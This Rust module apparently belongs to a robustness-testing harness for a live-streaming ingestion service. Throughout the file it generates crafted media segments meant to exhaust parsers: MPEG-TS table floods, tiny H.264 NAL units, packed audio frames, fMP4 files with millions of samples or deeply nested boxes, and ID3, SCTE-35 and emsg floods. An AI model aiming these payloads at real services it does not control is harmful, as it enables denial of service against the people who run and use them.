//! Attacks by media: much work in few bytes.

use bytes::Bytes;
use serde_json::json;

use crate::attack::{Attack, Target};
use crate::media::ts::{AAC, AC3, AUDIO, CUES, H264, ID3, MP3, SCTE35, Ts, VIDEO, pat, splice_null};
use crate::media::{ac3, adts, frames, id3, mp3, mp4};
use crate::origin::Live;

/// Bytes of a segment of 2 s whose media is held until it has been played: 4 Mbit/s, so that what is held is little.
const HELD: usize = 1 << 20;
/// Bytes of one of which nothing is left once it has been read, and its milliseconds: as much as a fast network brings.
const READ: usize = 8 << 20;
const READ_WITHIN: u64 = 250;
/// Streams that do the same at once.
const TOGETHER: usize = 3;

const AUDIO_ID: u8 = 0xC0;
const VIDEO_ID: u8 = 0xE0;
const PRIVATE_ID: u8 = 0xBD;

pub fn transport_streams() -> Vec<Attack> {
    let nal = |unit: &'static [u8]| move || unit.repeat(READ / unit.len());
    vec![
        read("PAT flood", || fill(READ, &[(VIDEO, H264)], |ts, _| ts.pat())).alone(),
        read("PAT flood, 11 in a packet", || {
            fill(READ, &[(VIDEO, H264)], |ts, at| ts.section(0, &pat(at as u8, 1).repeat(11)))
        }),
        read("PAT flood, 250 programs each", || {
            fill(READ, &[(VIDEO, H264)], |ts, at| ts.section(0, &pat(at as u8, 250)))
        }),
        read("PMT flood", || fill(READ, &[(VIDEO, H264)], |ts, _| ts.pmt(0, &[(VIDEO, H264)]))),
        read("PMT version flood", || {
            fill(READ, &[(VIDEO, H264)], |ts, at| {
                ts.pmt(
                    at as u8,
                    &[(VIDEO + (at % 2) as u16, H264), (AUDIO, if at % 3 == 0 { AAC } else { MP3 })],
                );
            })
        }),
        read("PMT flood of 200 streams", || {
            let streams: Vec<_> = (0..200).map(|pid| (0x200 + pid, AAC)).collect();
            fill(READ, &[(VIDEO, H264)], move |ts, at| ts.pmt(at as u8, &streams))
        }),
        read("empty PES packets", || fill(READ, &[(VIDEO, H264)], |ts, _| ts.pes(VIDEO, VIDEO_ID, &[]))),
        read("empty PES packets of audio", || {
            fill(READ, &[(AUDIO, AAC)], |ts, _| ts.pes(AUDIO, AUDIO_ID, &[]))
        }),
        video("start codes only", nal(&[0, 0, 1])).alone(),
        video("start codes of four bytes only", nal(&[0, 0, 0, 1])),
        video("tiny NAL units", nal(&[0, 0, 1, 9])),
        video("tiny NAL units of filler", nal(&[0, 0, 1, 12, 0x80])),
        video("tiny NAL units of SEI", nal(&[0, 0, 1, 6, 5, 0, 0x80])),
        video("tiny slices", nal(&[0, 0, 1, 0x65, 0x88])),
        video("parameter sets without end", nal(&[0, 0, 1, 0x67, 0x64, 0, 0x1E, 0xAC, 0, 0, 1, 0x68, 0xEE])),
        video("zeros only", nal(&[0])),
    ]
}

pub fn audio() -> Vec<Attack> {
    let packed = |name: &str, ending, frame: Vec<u8>| {
        attack(name, ending, move || {
            let segment = Bytes::from(frames(&frame, HELD));
            move |_| segment.clone()
        })
    };
    // The clock of a segment goes on for its two seconds, however many frames there are.
    let sized = |name: &str, size: usize, kind, id, frame: Vec<u8>| {
        attack(name, "ts", move || {
            let chunk = frames(&frame, 60_000);
            let ticks = 180_000 / (size / chunk.len()) as u64;
            fill(size, &[(AUDIO, kind)], move |ts, _| {
                ts.pes(AUDIO, id, &chunk);
                ts.at += ticks;
            })
        })
    };
    let carried = |name: &str, kind, id, frame: Vec<u8>| sized(name, HELD, kind, id, frame);
    vec![
        packed("packed ADTS, headers only", "aac", adts(0)),
        packed("packed ADTS, a byte each", "aac", adts(1)),
        packed("packed MP3, 24 bytes each", "mp3", mp3()),
        packed("packed AC-3, 128 bytes each", "ac3", ac3()),
        carried("ADTS in TS, headers only", AAC, AUDIO_ID, adts(0)),
        carried("ADTS in TS, a byte each", AAC, AUDIO_ID, adts(1)),
        sized("ADTS in TS, a byte each, 8 MB a segment", READ, AAC, AUDIO_ID, adts(1)).alone(),
        carried("MP3 in TS, 24 bytes each", MP3, AUDIO_ID, mp3()),
        carried("AC-3 in TS, 128 bytes each", AC3, PRIVATE_ID, ac3()),
        three_of_adts().alone(),
    ]
}

pub fn mp4() -> Vec<Attack> {
    let fragments = |name: &str, samples: u32, size: u32, listed: bool| {
        cmaf(name, move |number| mp4::segment(number, samples, size, listed))
    };
    vec![
        fragments("fMP4: 96,000 samples of a byte", 96_000, 1, true),
        fragments("fMP4: a million samples of a byte", 1_000_000, 1, false).alone(),
        fragments("fMP4: ten million samples of nothing", 10_000_000, 0, false),
        fragments("fMP4: two million samples of nothing, listed", 2_000_000, 0, true),
        cmaf("fMP4: empty boxes without end", |_| mp4::boxed(b"free", b"").repeat(READ / 8)),
        cmaf("fMP4: fragments without end", |number| mp4::segment(number, 1, 1, false).repeat(10_000)),
        cmaf("fMP4: nested boxes", |_| {
            let mut out = Vec::new();
            (0..200_000).rev().for_each(|depth| out.extend(mp4::header(b"moof", depth * 8)));
            out
        }),
        cmaf("emsg flood", |number| {
            let mut out: Vec<u8> = (0..60_000).flat_map(|id| mp4::emsg(number, id)).collect();
            out.extend(mp4::segment(number, 94, 16, false));
            out
        }),
        attack("ID3 flood", "ts", || {
            let tag = id3(1).repeat(20);
            fill(HELD, &[(AUDIO, AAC), (CUES, ID3)], move |ts, at| {
                ts.pes(CUES, PRIVATE_ID, &tag);
                if at % 40 == 0 {
                    ts.pes(AUDIO, AUDIO_ID, &adts(16));
                    ts.at += 1_920;
                }
            })
        }),
        attack("SCTE 35 flood", "ts", || {
            fill(HELD, &[(AUDIO, AAC), (CUES, SCTE35)], |ts, at| {
                ts.section(CUES, &splice_null(at as u32));
                if at % 40 == 0 {
                    ts.pes(AUDIO, AUDIO_ID, &adts(16));
                    ts.at += 1_920;
                }
            })
        }),
    ]
}

/// Three sources of the kind that costs most, at once.
fn three_of_adts() -> Attack {
    Attack::new("three sources of minimal ADTS frames", |target| async move {
        let segment = Bytes::from(frames(&adts(1), HELD));
        for _ in 0..TOGETHER {
            let segment = segment.clone();
            let source = Live::of("aac", move |_| segment.clone()).serve(&target).await;
            target.start_stream(json!({ "sourceUrl": source })).await;
        }
    })
}

/// A live source whose segments are what `make` makes of their numbers.
fn attack<S>(name: &str, ending: &'static str, make: impl Fn() -> S + Send + Sync + 'static) -> Attack
where
    S: Fn(u64) -> Bytes + Send + Sync + 'static,
{
    Attack::new(name, move |target| plays(target, Live::of(ending, make())))
}

/// The same, of which nothing is left once it has been read.
fn read<S>(name: &str, make: impl Fn() -> S + Send + Sync + 'static) -> Attack
where
    S: Fn(u64) -> Bytes + Send + Sync + 'static,
{
    Attack::new(name, move |target| plays(target, Live { lasting: READ_WITHIN, ..Live::of("ts", make()) }))
}

async fn plays(target: Target, live: Live) {
    let source = live.serve(&target).await;
    target.start_stream(json!({ "sourceUrl": source })).await;
}

/// Segments of `size` bytes: tables for `streams`, then `more` as often as fits.
fn fill<M>(size: usize, streams: &[(u16, u8)], more: M) -> impl Fn(u64) -> Bytes + Send + Sync + use<M>
where
    M: Fn(&mut Ts, usize) + Send + Sync + 'static,
{
    let streams = streams.to_vec();
    move |number| {
        let mut ts = Ts::segment(number, &streams);
        let mut at = 0;
        while ts.out.len() < size {
            more(&mut ts, at);
            at += 1;
        }
        ts.out.into()
    }
}

/// One PES packet of H.264 in each segment.
fn video(name: &str, units: impl Fn() -> Vec<u8> + Send + Sync + 'static) -> Attack {
    read(name, move || {
        let units = units();
        move |number| {
            let mut ts = Ts::segment(number, &[(VIDEO, H264)]);
            ts.pes(VIDEO, VIDEO_ID, &units);
            ts.out.into()
        }
    })
}

/// Fragmented MP4 behind an init segment.
fn cmaf(name: &str, segment: impl Fn(u64) -> Vec<u8> + Send + Sync + Clone + 'static) -> Attack {
    Attack::new(name, move |target| {
        let segment = segment.clone();
        let live = Live {
            header: "#EXT-X-MAP:URI=\"init.mp4\"\n".to_owned(),
            others: vec![("init.mp4", mp4::init())],
            ..Live::of("m4s", move |number| segment(number).into())
        };
        plays(target, live)
    })
}
